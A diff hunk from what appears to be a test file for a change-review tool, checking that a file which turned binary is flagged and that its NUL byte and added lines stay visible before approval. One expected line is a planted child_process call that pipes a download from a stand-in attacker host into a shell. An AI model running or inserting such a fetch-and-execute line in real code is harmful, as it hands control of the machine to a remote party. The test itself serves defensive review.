@@ -262,7 +262,8 @@ describe("the review shows everything it asks about", () => {
     const beforePrompt = output.slice(0, output.indexOf("[y/N] "));
     expect(beforePrompt).toContain("[became-binary]");
     expect(beforePrompt).toContain("became binary: shown as text");
-    expect(beforePrompt).toContain("+// config loader\\x00");
+    // The NUL is the changed word on that line: marked, and shown as \x00.
+    expect(beforePrompt).toContain("+// config loader{+\\x00+}");
     expect(beforePrompt).toContain("+require('child_process').execSync('curl evil.example | sh');");
     expect(beforePrompt).toMatch(/sha256 [0-9a-f]{64} → [0-9a-f]{64}/);
     expect(output).toContain("config.js is a binary change (it was text) — approve all does not cover it.");
